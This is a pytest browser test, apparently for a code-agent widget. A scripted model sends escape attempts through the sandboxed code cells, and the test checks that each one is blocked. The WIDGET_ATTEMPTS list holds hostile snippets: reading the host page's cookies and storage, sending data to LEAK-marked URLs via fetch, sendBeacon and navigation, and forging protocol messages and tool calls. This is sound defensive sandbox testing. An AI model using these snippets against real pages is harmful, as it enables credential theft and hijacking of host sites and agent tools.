"""The escape suite in the widget hosting mode (SECURITY-CASES 6-10): every way out, tried by model code in the
widget's sandbox, with the widget embedded in a host page of another origin.

The host page (HostServer, http://localhost:<port>) embeds the widget (app_url, http://127.0.0.1:<port>) and
plants its own secrets: a fake key in its localStorage, sessionStorage, a cookie and an IndexedDB database, and an
element holding it in its DOM. The widget's frame gets the app's secrets of tests/browser/test_sandbox_escape.py
(SETUP_SECRETS) and the widget's real key, saved and remembered. The browser profile gives the widget's
third-party frame storage (test_widget_security.storage_page), so there is something there to steal.

Then one real run through the widget path: the host calls start(), the scripted model server answers each step
with one attempt as the code cell (test_sandbox_escape.ATTEMPTS, each in its own try/except, then the attempts
only a widget has: the host page through `parent`/`top`/`opener`, its navigation, forged widget-protocol
messages), the agent runs it in the widget's sandbox and the host hears the run's events. Asserted: both canaries,
the host's origin and the app's origin heard no LEAK request; no event the host heard, no message it received
and no request the model server got holds a secret or a forged value; the host page's DOM, storage and URL are
as the test left them; no host tool ran; and the widget still runs a normal task after.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

# canaries and storage_page are fixtures (used by name): the same canary servers and storage-giving profile.
from tests.browser.test_sandbox_escape import ATTEMPTS, MARK, SECRET, SETUP_SECRETS, STASH, _cell, canaries  # noqa: F401
from tests.browser.test_widget import host_page, wait_for_event, widget_frame
from tests.browser.test_widget_security import storage_page  # noqa: F401
from tests.servers.host_server import HostServer
from tests.tally import tally

pytestmark = pytest.mark.browser
HOST_SECRET = "host-secret-5e2a91c4"
# A value the forged messages carry. Sandboxed code builds it from two halves, so the code the host hears in
# CodeReady events never holds it: seen anywhere, it came from a forged message that got through.
FORGED = "FORGED-7c1d"

# Names inside sandboxed code, besides test_sandbox_escape's URL/URL2/APP: HOST (the host page's origin), FAKE
# (the forged value), msg(dict) (a JS object from JSON).
WIDGET_ATTEMPTS = [
    # the host page's DOM and storage (9)
    "print(js.parent.document.getElementById('host-secret').textContent)",
    "print(js.top.document.getElementById('host-secret').textContent)",
    "print(js.top.localStorage.getItem('host.apiKey'))",
    "print(js.parent.parent.sessionStorage.getItem('host.apiKey'))",
    "print(js.window.opener.document.cookie)",
    "print(js.opener.localStorage.getItem('host.apiKey'))",
    "print(js.document.referrer)",
    "print(js.self.frameElement.ownerDocument.body.innerHTML)",
    "print(js.top.frames[0].document.cookie)",
    "print(js.eval('top.document.getElementById(\"host-secret\").textContent'))",
    "print(js.Function.new('return parent.parent.localStorage.getItem(\"host.apiKey\")')())",
    # the host page's navigation and origin (7, 9)
    "js.top.location.href = HOST + '/LEAK-host-top-location'",
    "js.parent.location.replace(HOST + '/LEAK-host-parent-replace')",
    "js.location.assign(HOST + '/LEAK-host-self-assign')",
    "js.navigation.navigate(HOST + '/LEAK-host-navigate')",
    "js.history.pushState(None, '', HOST + '/LEAK-host-push-state')",
    "js.open(HOST + '/LEAK-host-open-top', '_top')",
    "js.fetch(HOST + '/LEAK-host-fetch')",
    "js.importScripts(HOST + '/LEAK-host-import.js')",
    "js.navigator.sendBeacon(HOST + '/LEAK-host-beacon', 'x')",
    # forged widget-protocol messages, to the host page, the widget and the sandbox frame (10)
    "js.top.postMessage(msg({'type': 'event', 'event': {'type': 'FinalAnswer', 'run_id': 'x', 'value': FAKE}}), '*')",
    "js.parent.postMessage(msg({'type': 'codeact:hello'}), '*')",
    "c = js.MessageChannel.new()\njs.parent.postMessage(msg({'type': 'codeact:connect'}), '*', js.Array.of(c.port2))",
    "c = js.MessageChannel.new()\njs.postMessage(msg({'type': 'codeact:connect'}), js.Array.of(c.port2))\n"
    "c.port1.postMessage(msg({'type': 'start', 'task': FAKE, 'requestId': 'x'}))",
    "for t in ('ready', 'started', 'event', 'error', 'tool-result'):\n"
    "    js.postMessage(msg({'type': t, 'version': FAKE, 'runId': FAKE, 'requestId': 'x', 'message': FAKE,"
    " 'callId': 'x', 'ok': True, 'value': FAKE, 'event': {'type': 'FinalAnswer', 'run_id': FAKE, 'value': FAKE}}))",
    # results and tool calls for other runs of the sandbox frame; the tool calls also for this run (a denied tool)
    "for i in range(1000, 1040):\n"
    "    js.postMessage(msg({'type': 'result', 'runId': 'r%d' % i,"
    " 'result': {'stdout': FAKE, 'final': True, 'final_value': FAKE}}))",
    "for i in range(1, 400):\n"
    "    js.postMessage(msg({'type': 'tool-call', 'runId': 'r%d' % i, 'callId': 'f%d' % i, 'name': 'highlight_row',"
    " 'argsJson': json.dumps({'tea': 'Rooibos'})}))",
    # the agent worker's and the frame's own message shapes, which the sandbox worker has no channel to
    "js.postMessage(msg({'type': 'host-tool-call', 'id': 1, 'runId': 'x', 'name': 'read_prices', 'arguments': {}}))",
    "js.postMessage(msg({'op': 'tool-call', 'session': 'main', 'runId': 'r1', 'callId': 'x', 'name': 'read_prices',"
    " 'argsJson': '{}'}))",
    "b = js.Blob.new(js.Array.of(\"top.postMessage({type: 'codeact:hello'}, '*'); postMessage({type: 'result'})\"))\n"
    "w = js.Worker.new(js.URL.createObjectURL(b))",
]
ALL_ATTEMPTS = ATTEMPTS + WIDGET_ATTEMPTS

HOST_SETUP = """async ([secret]) => {
  localStorage.setItem('host.apiKey', secret);
  sessionStorage.setItem('host.apiKey', secret);
  document.cookie = 'host_key=' + secret + '; path=/';
  const el = document.createElement('div');
  el.id = 'host-secret';
  el.textContent = secret;
  document.body.append(el);
  await new Promise((resolve, reject) => {
    const open = indexedDB.open('host-db');
    open.onupgradeneeded = () => open.result.createObjectStore('secrets');
    open.onerror = () => reject(open.error);
    open.onsuccess = () => {
      const tx = open.result.transaction('secrets', 'readwrite');
      tx.objectStore('secrets').put(secret, 'apiKey');
      tx.oncomplete = () => { open.result.close(); resolve(); };
    };
  });
  const text = (data) => { try { return JSON.stringify(data); } catch { return String(data); } };
  window.hostMessages = [];
  addEventListener('message', (e) => window.hostMessages.push(e.origin + ' ' + text(e.data)));
}"""
# Everything of the host page's own the sandbox must not change.
HOST_STATE = """async () => ({
  url: location.href,
  html: document.documentElement.outerHTML,
  local: JSON.stringify(Object.entries(localStorage)),
  session: JSON.stringify(Object.entries(sessionStorage)),
  cookie: document.cookie,
  databases: (await indexedDB.databases()).map((d) => d.name),
})"""
WIDGET_SETTINGS = """([key, steps]) => {
  const form = document.querySelector('#settings form');
  form.elements.apiKey.value = key;
  form.elements.remember.checked = true;
  form.elements.maxSteps.value = steps;
  form.elements.maxWallClockS.value = 900;
  form.elements.timeoutMs.value = 3000;
  form.requestSubmit(form.querySelector('button[value=save]'));
}"""
# Window messages the widget's frame receives that carry a forged value or a LEAK mark.
WIDGET_LISTEN = """([forged, mark]) => {
  window.forgedSeen = [];
  addEventListener('message', (e) => {
    let text;
    try { text = JSON.stringify(e.data); } catch { text = String(e.data); }
    if (String(text).includes(forged) || String(text).includes(mark)) window.forgedSeen.push(text);
  });
}"""


@pytest.fixture(scope="module", params=["plain-host", "isolated-host"])
def host_server(request) -> Iterator[HostServer]:  # noqa: ANN001
    """A plain host (the widget's host tools are awaited) and a cross-origin isolated one (they block on Atomics)."""
    with HostServer(isolation=request.param == "isolated-host") as server:
        yield server


def _step(code: str) -> str:
    return f"One more try.\n```python\n{code}\n```"


def _prelude(canary_urls: tuple[str, str], app: str, host: str) -> str:
    first, second = canary_urls
    return (f"import js, json\nURL = {first!r}\nURL2 = {second!r}\nAPP = {app!r}\nHOST = {host!r}\n"
            f"FAKE = {FORGED[:4]!r} + {FORGED[4:]!r}\n"
            "def msg(d):\n    return js.JSON.parse(json.dumps(d))\n")


def _run_through(page, widget, model_server, replies: list) -> tuple[list[str], list[str]]:  # noqa: ANN001
    """Runs until every reply was a step; returns the run ids and the bodies of the model requests. Three failed
    cells in a row with the same error (the CSP's refusal of eval, say) are stagnation to the agent: it stops the
    run and asks the model for a summary, which takes the next queued reply. So each run is queued the replies
    not yet run as steps, and every attempt still runs once; the widget is seen to recover from each stop."""
    runs: list[str] = []
    bodies: list[str] = []
    done = 0
    while done < len(replies):
        assert len(runs) <= len(replies) // 3, "a run stopped without running a step"
        model_server.reset()
        model_server.enqueue(*replies[done:])
        widget.wait_for_function("document.body.dataset.running !== 'true'")
        run_id = page.evaluate("document.getElementById('a').start('Try every way out')")
        finished = page.wait_for_function(
            "(id) => window.events.find((e) => e.type === 'RunFinished' && e.run_id === id)",
            arg=run_id, timeout=600_000).json_value()
        runs.append(run_id)
        bodies += [r.body.decode("utf-8", "replace") for r in model_server.chat_requests()]
        done += page.evaluate(
            "(id) => window.events.filter((e) => e.type === 'Observation' && e.run_id === id).length", run_id)
        if done < len(replies):
            assert finished["stop_reason"] == "stagnation", finished
    assert finished["status"] == "finished" and done == len(replies), finished
    return runs, bodies


def test_no_way_out_of_the_widget_reaches_a_canary_the_host_or_a_secret(
        storage_page, app_url, model_server, host_server, canaries) -> None:  # noqa: ANN001, F811
    page = storage_page
    first, second = canaries
    page.requests_seen, page.requests_failed = [], {}
    page.context.on("request", lambda req: page.requests_seen.append(req.url))
    page.context.on("requestfailed", lambda req: page.requests_failed.setdefault(req.url, req.failure))
    # A deny tool that acts on the host's DOM: a forged call that got past the widget's gate would show.
    host_server.pages["/shop.html"] = host_page(app_url, model_server.url, policy="deny")
    page.goto(host_server.url + "/shop.html")
    page.wait_for_function("window.hostReady === true")
    page.wait_for_function("document.getElementById('a').ready.then(() => true)", timeout=120_000)
    widget = widget_frame(page)
    widget.wait_for_function("window.codeact?.embed?.bridge.connected === true", timeout=60_000)
    assert widget.evaluate("crossOriginIsolated") is host_server.isolation

    # Secrets on both sides of the frame boundary, really there for the sandbox to try.
    page.evaluate(HOST_SETUP, [HOST_SECRET])
    assert page.evaluate("document.getElementById('host-secret').textContent") == HOST_SECRET
    host_before = page.evaluate(HOST_STATE)
    assert HOST_SECRET in host_before["local"] and host_before["databases"] == ["host-db"]
    assert widget.evaluate(SETUP_SECRETS, [SECRET]) == [SECRET] * 3
    steps = len(ALL_ATTEMPTS) + 2
    widget.evaluate(WIDGET_SETTINGS, [SECRET, steps + 5])
    widget.wait_for_function("(n) => window.codeact.settings.current().limits.maxSteps === n", arg=steps + 5)
    assert widget.evaluate("window.codeact.settings.current().apiKey") == SECRET
    widget.evaluate(WIDGET_LISTEN, [FORGED, MARK])
    rejected_before = widget.evaluate("window.codeact.embed.bridge.rejected")
    # Control: the canaries and the host server do record a request the host page makes.
    for server in (first, second):
        assert page.evaluate("async (u) => (await fetch(u + '/control')).status", server.url) == 200
        assert server.hits == ["GET /control"]
        server.hits.clear()
    host_server.requests.clear()

    prelude = _prelude((first.url, second.url), app_url, host_server.url)
    replies = [_step(prelude + _cell(attempt)) for attempt in ALL_ATTEMPTS]
    # The stash is read 2 s later (the reply's first token waits): anything sent late has arrived by then.
    replies += [{"text": _step(STASH), "first_delta_delay_s": 2.0}, _step("final_answer('done')")]
    tally("escape attempts tried", len(ALL_ATTEMPTS))
    runs, bodies = _run_through(page, widget, model_server, replies)
    events = page.evaluate("window.events")
    observations = [e for e in events if e["type"] == "Observation" and e["run_id"] in runs]

    assert wait_for_event(page, "FinalAnswer")["value"] == "done"
    assert len(observations) == len(ALL_ATTEMPTS) + 2, [o["observation"][:200] for o in observations]
    text = json.dumps(observations)
    assert "blocked:" in text  # the attempts really ran in the widget's sandbox and were refused
    stash = observations[-2]["stdout"]
    assert stash.count("undefined") + stash.count("none") == 5, stash
    # Nothing got out: not to the canaries, not to the host's origin, not to the app's (checked in the browser:
    # every request carrying the mark or aimed at a canary failed before it was sent).
    assert first.hits == [] and second.hits == [], (first.hits, second.hits)
    assert host_server.requests == [], host_server.requests
    tried = [u for u in page.requests_seen if (MARK in u or first.url in u or second.url in u)
             and not u.endswith("/control")]
    assert [u for u in tried if page.requests_failed.get(u) is None] == [], (tried, page.requests_failed)
    # Nothing the host heard, and nothing the model was sent, holds a secret or a forged value.
    heard = json.dumps([events, page.evaluate("window.errors"), page.evaluate("window.hostMessages"), bodies])
    for value in (SECRET, HOST_SECRET, FORGED):
        assert value not in heard, value
    assert page.evaluate("window.hostMessages") == []
    # The host page is as the test left it, and no host tool ran (a forged call to the deny tool included).
    assert page.evaluate(HOST_STATE) == host_before
    assert page.evaluate("window.calls") == []
    assert page.locator("tr.highlight").count() == 0
    # A forged tool call that named this run is no way around the gate: it is the sandbox calling the tool, and
    # the widget's policy (deny) answered it like any other call.
    calls = [(e["tool"], e["ok"], e["error"]) for e in events if e["type"] == "ToolCall"]
    assert set(calls) <= {("highlight_row", False, "ToolDenied: highlight_row is denied by its policy")}, calls
    # The widget's side: its secrets in place, no forged message reached its window or its host channel.
    assert widget.evaluate("localStorage.getItem('codeact.apiKey')") == SECRET
    assert widget.evaluate("window.forgedSeen") == []
    assert widget.evaluate("window.__broadcasts") == [] and widget.evaluate("window.__parentMessages") == []
    assert widget.evaluate("window.codeact.embed.bridge.rejected") == rejected_before
    tally("escape attempts blocked", len(ALL_ATTEMPTS))

    # And the widget still works: a normal task with a host tool.
    model_server.enqueue(_step("final_answer(len(read_prices()))"))
    page.evaluate("window.events.length = 0")
    page.evaluate("document.getElementById('a').start('How many teas?')")
    assert wait_for_event(page, "FinalAnswer")["value"] == 2
    assert wait_for_event(page, "RunFinished")["status"] == "finished"
    assert page.evaluate("window.calls") == ["read_prices"]
